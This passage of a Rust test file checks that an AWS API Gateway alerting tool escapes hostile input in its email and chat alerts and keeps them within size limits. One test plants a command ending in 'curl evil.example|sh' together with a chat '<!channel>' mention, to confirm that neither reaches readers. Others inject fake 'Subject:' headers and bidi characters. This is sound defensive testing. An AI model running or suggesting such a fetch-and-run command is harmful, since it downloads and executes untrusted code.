            "• *Diagnosis* (WebSocket API `a1b2c3`)",
        ),
    ] {
        let d = Diagnosis::Checked {
            api_id: "a1b2c3".into(),
            api_kind: kind,
            authorizers: Vec::new(),
        };
        assert!(
            diagnosis_text(&d).starts_with(text),
            "{}",
            diagnosis_text(&d)
        );
        assert!(
            diagnosis_chat(&d).starts_with(chat),
            "{}",
            diagnosis_chat(&d)
        );
    }
}

#[test]
fn diagnosis_commands_are_shown_only_in_their_shape() {
    use crate::diagnose::{AuthorizerReport, Check};
    let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
    let planted =
        "aws lambda add-permission --function-name f; curl evil.example|sh\n```<!channel>";
    g.diagnosis = Some(Diagnosis::Checked {
        api_id: "a1b2c3".into(),
        api_kind: crate::diagnose::ApiKind::Http,
        authorizers: vec![AuthorizerReport {
            authorizer_id: "abc123".into(),
            name: "n".into(),
            routes: vec!["GET /x".into()],
            function_arn: None,
            credentials_arn: None,
            simple_responses: Some(true),
            payload_format_version: Some("2.0".into()),
            identity_source: None,
            checks: vec![Check {
                ok: false,
                summary: "s".into(),
                command: Some(planted.into()),
                proves: None,
            }],
        }],
    });
    let alert = render(&g, &config());
    assert!(!alert.email.contains("curl evil"), "{}", alert.email);
    assert!(!alert.chat.contains("curl evil"), "{}", alert.chat);
    // The remedy's own command stands in.
    let commands = shown_commands(&alert);
    assert_eq!(commands.len(), 2, "{commands:?}");
    assert!(
        commands
            .iter()
            .all(|c| c.contains("--function-name AUTHORIZER_FUNCTION"))
    );
}

/// Every field of a group, each holding `value`.
fn hostile_group(value: &str, cause: Cause) -> Group {
    let f = with(&finding(cause, value, "r", 1), |t| {
        t.request_id = Some(value);
        t.time = Some(value);
        t.error = value;
        t.route = Some(value);
        t.api_id = Some(value);
        t.stage = Some(value);
        t.account_id = Some(value);
    });
    let mut g = group(&[f], 5).remove(0);
    g.api_ids.push(value.to_owned());
    g.diagnosis = Some(Diagnosis::Checked {
        api_id: value.into(),
        api_kind: crate::diagnose::ApiKind::Rest,
        authorizers: vec![
            crate::diagnose::AuthorizerReport {
                authorizer_id: value.into(),
                name: value.into(),
                routes: vec![value.into(); 3],
                function_arn: Some(value.into()),
                credentials_arn: Some(value.into()),
                simple_responses: Some(true),
                payload_format_version: Some(value.into()),
                identity_source: Some(value.into()),
                checks: vec![
                    crate::diagnose::Check {
                        ok: false,
                        summary: value.into(),
                        command: None,
                        proves: None,
                    };
                    3
                ],
            };
            3
        ],
    });
    g.suppressed_before = Some(Suppressed {
        failed_requests: 3,
        batches: 2,
        window_start: 1,
        last_suppressed: 2,
        sample_request_ids: vec![value.into(); 3],
    });
    g
}

/// What no person-facing body may carry raw: every [`crate::text::escape::is_unsafe`] character
/// but the line breaks the body is laid out with.
fn assert_shown_safely(alert: &Alert) {
    use crate::text::escape::is_unsafe;
    let raw = |s: &str| s.chars().find(|&c| is_unsafe(c) && c != '\n');
    assert_eq!(raw(&alert.email), None, "email");
    let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
    let mut texts = vec![
        chat["content"]["title"].as_str().unwrap().to_owned(),
        chat["content"]["description"].as_str().unwrap().to_owned(),
    ];
    for step in chat["content"]["nextSteps"]
        .as_array()
        .into_iter()
        .flatten()
    {
        texts.push(step.as_str().unwrap().to_owned());
    }
    for t in &texts {
        assert_eq!(raw(t), None, "chat: {}", truncate(t, 2000));
        // The console link is the one piece of markup with `<`.
        let ours = t.replace("<https://eu-west-1.console.aws.amazon.com/", "");
        assert!(!ours.contains('<'), "chat: {}", truncate(t, 2000));
    }
    // The bodies as sent: no raw character at all, and the machine JSON's too.
    for (what, body) in [
        ("message", alert.message()),
        ("machine", alert.machine.clone()),
    ] {
        assert_eq!(body.chars().find(|&c| is_unsafe(c)), None, "{what}");
    }
    assert!(alert.subject.bytes().all(|b| (0x20..0x7f).contains(&b)));
    for (_, v) in alert.attributes.pairs() {
        assert!(v.bytes().all(|b| (0x20..0x7f).contains(&b)), "{v:?}");
    }
}

#[test]
fn structure_faking_characters_are_escaped_everywhere() {
    for c in crate::text::escape::DANGEROUS {
        let value = format!("ok{c}Subject: fake{c}<!channel>{c}");
        for lang in [Language::En, Language::Ja] {
            let cfg = Config {
                language: lang,
                ..config()
            };
            for cause in Cause::ALL {
                let alert = render(&hostile_group(&value, cause), &cfg);
                assert_shown_safely(&alert);
                assert!(
                    !alert.email.lines().any(|l| l.starts_with("Subject:")),
                    "U+{:04X}",
                    c as u32
                );
                // Programs get the exact text back.
                let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
                assert_eq!(machine["errors"][0], value.as_str(), "U+{:04X}", c as u32);
            }
            let q = quiet(
                Cause::Unknown,
                &format!("log:{value}"),
                std::slice::from_ref(&value),
            );
            let alert = render_recovered(&q, &cfg);
            assert_shown_safely(&alert);
            assert!(!alert.email.lines().any(|l| l.starts_with("Subject:")));
        }
    }
}

/// SNS's limits, and bodies that are JSON whole.
fn assert_publishable(alert: &Alert) {
    let message = alert.message();
    assert!(
        alert.publish_bytes() < MAX_MESSAGE_BYTES,
        "{} bytes",
        alert.publish_bytes()
    );
    let parsed: serde_json::Value = serde_json::from_str(&message).unwrap();
    for key in ["default", "email", "https", "sqs", "lambda"] {
        assert!(parsed[key].is_string(), "{key}");
    }
    for body in [&alert.machine, &alert.chat] {
        serde_json::from_str::<serde_json::Value>(body).unwrap();
    }
    for (_, v) in alert.attributes.pairs() {
        assert!(v.len() <= MAX_ATTRIBUTE_BYTES, "{}", v.len());
    }
}

#[test]
fn every_field_is_bounded() {
    let big = 300_000;
    let values = [
        "x".repeat(big),
        "\u{1}".repeat(big),
        "\u{2028}".repeat(big / 3),
        "&\"\\<".repeat(big / 4),
        "\u{e0041}".repeat(big / 4),
    ];
    for value in &values {
        let g = hostile_group(value, Cause::MissingInvokePermission);
        let alert = render(&g, &config());
        assert_publishable(&alert);
        assert_subject(&alert.subject, Some(1));
        // Labels and regions come from configuration, but no path may break the bound.
        let cfg = Config {
            label: Some(value.clone()),
            region: Some(value.clone()),
            ..config()
        };
        let alert = render(&g, &cfg);
        assert_publishable(&alert);
        assert_subject(&alert.subject, Some(1));
        let q = quiet(
            Cause::Unknown,
            &format!("log:{value}"),
            &vec![value.clone(); 1000],
        );
        let alert = render_recovered(&q, &cfg);
        assert_publishable(&alert);
        assert_subject(&alert.subject, None);
    }
}

#[test]
fn many_distinct_values_are_bounded() {
    let mut g = hostile_group("v", Cause::Unknown);
    let many = |n: usize, len: usize| -> Vec<String> {
        (0..n)
            .map(|i| format!("{i}{}", "\u{202e}".repeat(len)))
            .collect()
    };
    g.routes = many(5_000, 300);
    g.errors = many(5_000, 300);
    g.api_ids = many(5_000, 300);
    g.stages = many(5_000, 300);
    g.sample_request_ids = many(10_000, 30);
    if let Some(Diagnosis::Checked { authorizers, .. }) = &mut g.diagnosis {
        let a = authorizers[0].clone();
        *authorizers = vec![a; 1_000];
        for a in authorizers.iter_mut() {
            a.routes = many(20, 30);
        }
    }
    g.suppressed_before.as_mut().unwrap().sample_request_ids = many(10_000, 30);
    let alert = render(&g, &config());
    assert_publishable(&alert);
    assert_shown_safely(&alert);
    let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
    assert!(machine["omitted_request_ids"].as_u64().unwrap() > 0);
}

/// Hostile text of up to 300 KB: a short mix of what fakes structure, repeated.
fn hostile_text() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::strategy::Strategy;
    (
            "[\\x00-\\x{a0}\\x{2028}\\x{2029}\\x{202e}\\x{2066}\\x{200b}\\x{feff}\\x{61c}\\x{e0041}\\x{fe0f}<>&`*_~|a-z日]{1,12}",
            proptest::prop_oneof![0usize..64, 0usize..300_000],
        )
            .prop_map(|(piece, len)| {
                let mut s = piece.repeat(len / piece.len() + 1);
                while s.len() > len {
                    s.pop();
                }
                s
            })
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(24))]
    #[test]
    fn any_hostile_finding_gives_a_publishable_alert(
        texts in proptest::collection::vec(hostile_text(), 11),
        count in proptest::prop_oneof![1usize..10, proptest::strategy::Just(usize::MAX)],
        cause in proptest::sample::select(Cause::ALL.to_vec()),
    ) {
        let base = finding(cause, &texts[9], "r", 1);
        let mut f = with(&base, |t| {
            t.request_id = Some(&texts[0]);
            t.time = Some(&texts[1]);
            t.error = &texts[2];
            t.route = Some(&texts[3]);
            t.api_id = Some(&texts[4]);
            t.stage = Some(&texts[5]);
            t.source_ip = Some(&texts[6]);
            t.event_id = Some(&texts[7]);
            t.account_id = Some(&texts[8]);
        });
        f.log_stream = Some(texts[10].as_str().into());
        let second = with(&f, |t| t.route = Some(&texts[10]));
        let mut g = group(&[f, second], usize::MAX).remove(0);
        g.count = count;
        let cfg = Config { label: Some("L".repeat(40)), ..config() };
        let alert = render(&g, &cfg);
        assert_publishable(&alert);
        assert_subject(&alert.subject, Some(count));
        assert_shown_safely(&alert);
    }
}
